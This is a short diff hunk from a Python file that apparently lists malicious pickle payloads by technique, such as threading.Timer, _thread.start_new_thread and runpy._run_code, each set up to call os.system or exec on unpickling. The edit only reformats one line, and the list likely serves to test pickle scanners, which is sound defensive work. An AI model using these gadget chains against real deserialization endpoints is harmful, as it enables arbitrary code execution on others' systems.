@@ -124,7 +124,8 @@ RUN: dict[str, tuple[bytes, str]] = {
         pickled(call("threading:Timer.start", call("threading:Timer", 0, name("os:system"), [SHELL]))), _GADGETS,
     ),
     "thread-start-new": (
-        pickled(call("_thread:start_new_thread", name("os:system"), (SHELL,)) + call("time:sleep", 0.2) + b"0"), _GADGETS,
+        pickled(call("_thread:start_new_thread", name("os:system"), (SHELL,)) + call("time:sleep", 0.2) + b"0"),
+        _GADGETS,
     ),
     "runpy-run-code": (
         _one("runpy:_run_code", call("builtins:compile", PYTHON, "model", "exec"), {}), _GADGETS,
